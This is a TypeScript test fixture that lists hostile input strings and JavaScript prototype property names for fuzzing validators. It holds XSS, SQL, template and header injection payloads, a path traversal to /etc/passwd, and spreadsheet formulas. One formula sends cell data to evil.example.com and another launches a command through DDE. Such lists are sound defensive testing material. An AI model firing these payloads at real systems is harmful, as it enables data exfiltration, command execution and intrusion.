/**
 * Text an attacker or a careless paste would send: markup and script, header injection, spreadsheet
 * formulas, invisible and direction-changing characters, template and path tricks, names of
 * JavaScript's own properties, and sizes at and past every bound.
 */
export const HOSTILE_TEXT = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  'javascript:alert(1)',
  '\r\nBcc: evil@example.com',
  'Rubrik\nBcc: evil@example.com',
  '=HYPERLINK("http://evil.example.com/?d="&A1,"Klicka")',
  "=cmd|' /C calc'!A0",
  '+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\u202Eexe.gnp',
  'a\u200Bb\u200Cc\u200Dd\u2060e\uFEFF',
  '\u0000\u0001\u007f\u0085\u2028\u2029',
  '\uD800',
  '😀'.repeat(60),
  "'; DROP TABLE uppdrag; --",
  '{{7*7}}${7*7}<%= 7*7 %>',
  '../../../../etc/passwd',
  '%2e%2e%2f%00',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'null',
  'NaN',
  '1e309',
  '',
  ' ',
  'Åäö ÅÄÖ éü ß',
  '2026-02-30',
  '0000-00-00',
  '9999-12-31',
] as const;

/** Names of JavaScript's own properties: as JSON keys, query keys, header names and lookup values. */
export const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__'] as const;
